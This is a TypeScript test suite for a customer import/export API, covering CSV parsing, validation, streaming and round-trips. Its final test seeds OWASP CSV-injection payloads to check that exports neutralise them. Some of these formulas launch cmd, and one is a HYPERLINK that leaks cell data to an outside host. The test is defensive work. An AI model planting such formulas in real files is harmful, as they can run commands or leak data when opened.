import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { definePlugin } from '../../plugin/define-plugin.js';
import { json, testDatabases } from '../../testing/index.js';
import { type Archive, csv, openArchive, type Person, rawText, snapshot } from './archive-fixtures.js';

const C = '/api/v1/customers';

/** Notes how many request chunks had been read when the first row reached the database. */
const probe = { pulled: 0, atFirstRow: -1 };
const chunkProbe = definePlugin({
  name: 'chunk-probe',
  version: '1.0.0',
  setup(ctx) {
    ctx.hooks.filter('customer.beforeCreate', (input) => {
      if (probe.atFirstRow < 0) probe.atFirstRow = probe.pulled;
      return input;
    });
  },
});

describe.each(testDatabases())('customer import and export on $name', (db) => {
  let a: Archive;
  beforeAll(async () => {
    a = await openArchive(db, { plugins: [chunkProbe] });
    await a.t.request(`${C}/custom-fields`, {
      body: {
        key: 'scale',
        labels: { en: 'Scale', 'zh-CN': '规模' },
        type: 'enum',
        filterable: true,
        options: [
          { value: 'small', labels: { en: 'Small', 'zh-CN': '小型' } },
          { value: 'large', labels: { en: 'Large', 'zh-CN': '大型' } },
        ],
      },
    });
    await a.t.request(`${C}/custom-fields`, {
      body: { key: 'employees', labels: { en: 'Employees', 'zh-CN': '员工人数' }, type: 'number' },
    });
  });
  afterAll(() => a.close());

  const upload = (
    body: string | Uint8Array | ReadableStream<Uint8Array>,
    query = '',
    who: Person = a.gm,
    type = 'text/csv; charset=utf-8',
  ) =>
    a.t.kernel.app.request(`${C}/import${query}`, {
      method: 'POST',
      body,
      headers: { authorization: `Bearer ${who.token}`, 'content-type': type },
      // A streamed body must say so (fetch's half-duplex upload).
      ...(body instanceof ReadableStream ? { duplex: 'half' } : {}),
    } as RequestInit);

  it('imports English headers without BOM, with the primary contact and custom fields', async () => {
    const file = csv([
      'name,kind,status,region,phone,email,ownerId,tags,contactName,contactPhone,custom.scale,employees',
      `Import Alpha Ltd,business,active,华东,021-1111 0001,alpha@imp.example.cn,${a.am.id},imp;vip,Ann,13911110001,large,120`,
      `"Import Beta, Inc.",organization,potential,华北,,,,imp,,,Small,`,
    ]);
    const res = await upload(file);
    expect(res.status).toBe(200);
    expect(await json(res)).toEqual({
      dryRun: false,
      mode: 'all-or-nothing',
      rows: 2,
      valid: 2,
      invalid: 0,
      created: 2,
      errors: [],
      errorsTruncated: false,
    });
    const list = (await json(await a.as(a.gm, `${C}?tag=imp&sort=name&include=contacts`))).items;
    expect(list.map((c: { name: string }) => c.name)).toEqual(['Import Alpha Ltd', 'Import Beta, Inc.']);
    expect(list[0]).toMatchObject({
      kind: 'business',
      status: 'active',
      ownerId: a.am.id,
      tags: ['imp', 'vip'],
      custom: { scale: 'large', employees: 120 },
    });
    expect(list[0].facets.contacts).toMatchObject([{ name: 'Ann', phone: '13911110001', primary: true }]);
    expect(list[1]).toMatchObject({ kind: 'organization', custom: { scale: 'small' }, ownerId: null });
    const timeline = await json(await a.as(a.gm, `${C}/${list[0].id}/timeline`));
    expect(timeline.items[0]).toMatchObject({ type: 'audit.customer.create', data: { reason: 'import' } });
    const audit = await a.t.kernel.audit.list({ entityType: 'customer', entityId: list[1].id });
    expect(audit).toEqual([
      expect.objectContaining({
        action: 'create',
        customerId: list[1].id,
        actorId: a.gm.id,
        reason: 'import',
        changes: null,
        at: list[1].createdAt,
      }),
    ]);
  });

  it('imports Chinese headers and values with a BOM', async () => {
    const file = csv(
      [
        '客户名称,客户类型,客户状态,内部客户,中间/最终客户,区域,电话,标签,联系人,联系人职务,规模',
        '导入 广州白云,商业客户,现实客户,否,中间客户,华南,020-8888 0001,导入；华南,陈经理,采购,大型',
        '导入 佛山陶瓷,组织客户,潜在客户,是,最终客户,华南,,导入,,,',
      ],
      true,
    );
    const res = await upload(file);
    expect(res.status).toBe(200);
    expect((await json(res)).created).toBe(2);
    const list = (await json(await a.as(a.gm, `${C}?tag=导入&sort=name`))).items;
    expect(list).toHaveLength(2);
    const gz = list.find((c: { name: string }) => c.name === '导入 广州白云');
    expect(gz).toMatchObject({
      kind: 'business',
      status: 'active',
      internal: false,
      chainPosition: 'intermediary',
      tags: ['导入', '华南'],
      custom: { scale: 'large' },
    });
    expect(list.find((c: { name: string }) => c.name === '导入 佛山陶瓷')).toMatchObject({
      kind: 'organization',
      internal: true,
    });
  });

  const BAD = csv([
    'name,status,phone,email,custom.scale,employees,contactPhone',
    'Dry Good One,active,,,,,',
    ',active,,,,,',
    'Dry Bad Status,closed,,,,,',
    'Dry Bad Email,,,not-an-email,,,',
    'Dry Good Two,,,,small,5,',
    'Dry Bad Custom,,,,medium,many,',
    'Import Alpha Ltd,,,,,,',
    'Dry Good One,,,,,,',
    'Dry Contact Without Name,,,,,,13900000000',
  ]);
  const expectedErrors = [
    { row: 3, field: 'name' },
    { row: 4, field: 'status' },
    { row: 5, field: 'email' },
    { row: 7, field: 'custom.scale' },
    { row: 7, field: 'employees' },
    { row: 8, field: 'name' },
    { row: 9, field: 'row' },
    { row: 10, field: 'contactName' },
  ];

  it('dry run changes nothing and reports every bad row with row, field and message', async () => {
    const before = await snapshot(a.t);
    const res = await upload(BAD, '?dryRun=true');
    expect(res.status).toBe(200);
    const report = await json(res);
    expect(report).toMatchObject({
      dryRun: true,
      rows: 9,
      valid: 2,
      invalid: 7,
      created: 0,
      errorsTruncated: false,
    });
    expect(
      report.errors.map((e: { row: number; field: string }) => ({ row: e.row, field: e.field })),
    ).toEqual(expectedErrors);
    expect(report.errors.every((e: { message: string }) => e.message.length > 0)).toBe(true);
    expect(report.errors.find((e: { row: number }) => e.row === 8).message).toContain(
      'Duplicate of customer',
    );
    expect(report.errors.find((e: { row: number }) => e.row === 9).message).toBe('Duplicate of row 2');
    expect(await snapshot(a.t)).toBe(before);
  });

  it("reports the spreadsheet's row numbers: blank lines and quoted line breaks counted", async () => {
    const file = csv([
      'name,status,email',
      '',
      'Rows Good One,active,',
      '"Rows Two',
      'Lines",closed,',
      '',
      '',
      'Rows Bad Email,,not-an-email',
    ]);
    const report = await json(await upload(file, '?dryRun=true'));
    expect(report.errors.map((e: { row: number; field: string }) => [e.row, e.field])).toEqual([
      [4, 'status'],
      [7, 'email'],
    ]);
  });

  it('all-or-nothing imports nothing when a row is bad (422 with the report)', async () => {
    const before = await snapshot(a.t);
    const res = await upload(BAD);
    expect(res.status).toBe(422);
    const p = await json(res);
    expect(p.code).toBe('import_invalid');
    expect(p.report.invalid).toBe(7);
    expect(await snapshot(a.t)).toBe(before);
  });

  it('skip-invalid imports the good rows and reports the bad ones', async () => {
    const res = await upload(BAD, '?mode=skip-invalid');
    expect(res.status).toBe(200);
    const report = await json(res);
    expect(report).toMatchObject({ mode: 'skip-invalid', rows: 9, valid: 2, invalid: 7, created: 2 });
    const names = (await json(await a.as(a.gm, `${C}?q=dry good&sort=name`))).items.map(
      (c: { name: string }) => c.name,
    );
    expect(names).toEqual(['Dry Good One', 'Dry Good Two']);
  });

  it('imports duplicates with force', async () => {
    const res = await upload(csv(['name', 'Dry Good One', 'dry good one']), '?force=true');
    expect((await json(res)).created).toBe(2);
  });

  it('refuses malformed files with a 4xx problem and changes nothing', async () => {
    const before = await snapshot(a.t);
    const cases: [string | Uint8Array, string, number, string][] = [
      [csv(['name,colour', 'x,red']), '', 400, 'unknown_columns'],
      [csv(['region', '华东']), '', 400, 'missing_column'],
      [csv(['name,名称', 'x,y']), '', 400, 'duplicate_column'],
      ['name\r\n"unclosed,quote\r\n', '', 400, 'invalid_csv'],
      [new Uint8Array([0x6e, 0x61, 0x6d, 0x65, 0x0a, 0xff, 0xfe, 0x0a]), '', 400, 'invalid_encoding'],
      // Ends inside a character: 名 without its last byte.
      [new Uint8Array([0x6e, 0x61, 0x6d, 0x65, 0x0a, 0x78, 0xe5, 0x90]), '', 400, 'invalid_encoding'],
      ['', '', 400, 'empty_file'],
      [csv(['name', 'x']), '?mode=some', 400, 'validation_failed'],
      [csv(['name', 'x']), '?dryRun=maybe', 400, 'validation_failed'],
    ];
    for (const [body, query, status, code] of cases) {
      const res = await upload(body, query);
      expect(res.status, code).toBe(status);
      expect((await json(res)).code).toBe(code);
    }
    expect((await upload(csv(['name', 'x']), '', a.gm, 'application/json')).status).toBe(415);
    expect((await upload(csv(['name', 'x']), '', a.am)).status).toBe(403);
    expect(await snapshot(a.t)).toBe(before);
  });

  it('reads the request as a stream, a batch at a time', async () => {
    // Large enough (≈ 2 MB) that the import worker's read-ahead (a few batches, a window of bytes
    // between the threads) is a small part of it.
    const rows = 8000;
    const address = '浙江省杭州市西湖区文三路'.repeat(16);
    const encoder = new TextEncoder();
    let i = 0;
    probe.pulled = 0;
    probe.atFirstRow = -1;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        probe.pulled++;
        if (i === 0) controller.enqueue(encoder.encode('\uFEFFname,phone,tags,address\r\n'));
        // 50 rows per chunk, cut in the middle of a row so records span chunks.
        let chunk = '';
        for (let k = 0; k < 50 && i < rows; k++, i++)
          chunk +=
            i === 1200
              ? `Stream Bad,12,stream,${address}\r\n`
              : `Stream 客户 ${i},+86 ${String(10_000_000 + i)},stream,${address}\r\n`;
        const cut = Math.floor(chunk.length / 2);
        controller.enqueue(encoder.encode(chunk.slice(0, cut)));
        controller.enqueue(encoder.encode(chunk.slice(cut)));
        if (i >= rows) controller.close();
      },
    });
    const res = await upload(body, '?mode=skip-invalid', a.gm, 'text/csv');
    expect(res.status).toBe(200);
    const report = await json(res);
    expect(report).toMatchObject({ rows, valid: rows - 1, invalid: 1, created: rows - 1 });
    expect(report.errors).toEqual([{ row: 1202, field: 'phone', message: expect.any(String) }]);
    expect(probe.atFirstRow).toBeGreaterThan(0);
    expect(probe.atFirstRow).toBeLessThan(probe.pulled / 2);
    const page = await json(await a.as(a.gm, `${C}?tag=stream&limit=1`));
    expect(page.items).toHaveLength(1);
  });

  it('reads characters whose bytes arrive in separate chunks', async () => {
    // One byte per chunk: every Chinese character (three bytes) spans chunks.
    const bytes = new TextEncoder().encode(csv(['客户名称,区域', '分块客户甲,华东', '分块客户乙,华北']));
    let at = 0;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (at < bytes.length) controller.enqueue(bytes.slice(at, ++at));
        else controller.close();
      },
    });
    const res = await upload(body, '', a.gm, 'text/csv');
    expect(res.status).toBe(200);
    expect(await json(res)).toMatchObject({ rows: 2, created: 2 });
    const page = await json(await a.as(a.gm, `${C}?q=分块客户`));
    const found = page.items.map((c: { name: string; region: string }) => `${c.name} ${c.region}`);
    expect(found.sort()).toEqual(['分块客户乙 华北', '分块客户甲 华东'].sort());
  });

  describe('export', () => {
    it('writes CSV with a BOM, the list filters, the primary contact and custom fields', async () => {
      const res = await a.as(a.gm, `${C}/export?tag=imp&sort=name`);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toBe('attachment; filename="customers-20260301.csv"');
      const body = await rawText(res);
      expect(body.charCodeAt(0)).toBe(0xfeff);
      const lines = body.slice(1).trimEnd().split('\r\n');
      expect(lines[0]).toContain('id,code,name,kind,internal,chainPosition,status');
      expect(lines[0]).toContain('custom.employees,custom.scale');
      expect(lines).toHaveLength(3);
      expect(lines[1]).toContain('Import Alpha Ltd');
      expect(lines[1]).toContain('imp;vip');
      expect(lines[1]).toContain('Ann');
      expect(lines[2]).toContain('"Import Beta, Inc."');
      const active = (await rawText(await a.as(a.gm, `${C}/export?tag=imp&status=active`)))
        .trimEnd()
        .split('\r\n');
      expect(active).toHaveLength(2);
    });

    it('writes Chinese headers on request, and the file imports again', async () => {
      const body = await rawText(await a.as(a.gm, `${C}/export?tag=导入&lang=zh-CN&sort=name`));
      expect(body.slice(1).startsWith('ID,客户编号,客户名称,客户类型')).toBe(true);
      expect(body).toContain('规模');
      const b = await openArchive(db);
      try {
        await b.t.request(`${C}/custom-fields`, {
          body: {
            key: 'scale',
            labels: { en: 'Scale', 'zh-CN': '规模' },
            type: 'enum',
            options: [
              { value: 'large', labels: { en: 'Large', 'zh-CN': '大型' } },
              { value: 'small', labels: { en: 'Small', 'zh-CN': '小型' } },
            ],
          },
        });
        await b.t.request(`${C}/custom-fields`, {
          body: { key: 'employees', labels: { en: 'Employees', 'zh-CN': '员工人数' }, type: 'number' },
        });
        const res = await b.t.kernel.app.request(`${C}/import`, {
          method: 'POST',
          body,
          headers: { authorization: `Bearer ${b.t.adminToken}`, 'content-type': 'text/csv' },
        });
        expect(await json(res)).toMatchObject({ rows: 2, created: 2 });
        const original = (await json(await a.as(a.gm, `${C}?tag=导入&sort=name`))).items;
        const copy = (await json(await b.as(b.gm, `${C}?tag=导入&sort=name`))).items;
        const strip = (c: any) => ({
          code: c.code,
          name: c.name,
          kind: c.kind,
          status: c.status,
          internal: c.internal,
          chainPosition: c.chainPosition,
          tags: c.tags,
          custom: c.custom,
          phone: c.phone,
        });
        expect(copy.map(strip)).toEqual(original.map(strip));
      } finally {
        await b.close();
      }
    });

    it('writes JSON with the same items as the list', async () => {
      const exported = JSON.parse(
        await rawText(await a.as(a.gm, `${C}/export?format=json&tag=imp&sort=name&include=contacts`)),
      );
      const listed = (await json(await a.as(a.gm, `${C}?tag=imp&sort=name&include=contacts`))).items;
      expect(exported).toEqual(listed);
      expect(
        JSON.parse(await rawText(await a.as(a.gm, `${C}/export?format=json&tag=nothing-has-this`))),
      ).toEqual([]);
    });

    it('neutralises OWASP formula payloads in every cell, and the file imports back unchanged', async () => {
      // OWASP "CSV Injection" examples (owasp.org/www-community/attacks/CSV_Injection).
      const payloads = [
        '=1+1',
        "-2+3+cmd|' /C calc'!A0",
        '+1+1',
        '+(1+1)',
        '@SUM(1+1)',
        '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
        "=cmd|' /C notepad'!'A1'",
      ];
      for (const [i, p] of payloads.entries())
        await a.customer({
          name: `${p} #${i}`,
          region: p,
          phone: `+86 21 5555 ${1000 + i}`,
          tags: ['formula'],
        });
      const body = await rawText(await a.as(a.gm, `${C}/export?tag=formula&sort=name`));
      const { parse } = await import('csv-parse/sync');
      const cells = (parse(body, { bom: true, relax_column_count: true }) as string[][]).flat();
      const dangerous = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+(\.\d+)?$/.test(c));
      expect(dangerous).toEqual([]);
      expect(cells).toContain("'+86 21 5555 1000");
      expect(cells).toContain(`'${payloads[1]}`);

      const b = await openArchive(db);
      try {
        for (const key of ['scale', 'employees'])
          await b.t.request(`${C}/custom-fields`, {
            body: { key, labels: { en: key, 'zh-CN': key }, type: 'text' },
          });
        const res = await b.t.kernel.app.request(`${C}/import`, {
          method: 'POST',
          body,
          headers: { authorization: `Bearer ${b.t.adminToken}`, 'content-type': 'text/csv' },
        });
        expect(await json(res)).toMatchObject({ rows: payloads.length, created: payloads.length });
        const pick = (c: any) => ({ name: c.name, region: c.region, phone: c.phone, tags: c.tags });
        const original = (await json(await a.as(a.gm, `${C}?tag=formula&sort=name`))).items.map(pick);
        const copy = (await json(await b.as(b.gm, `${C}?tag=formula&sort=name`))).items.map(pick);
        expect(copy).toEqual(original);
        expect(copy.map((c: { region: string }) => c.region).sort()).toEqual([...payloads].sort());
      } finally {
        await b.close();
      }
    });
  });
});
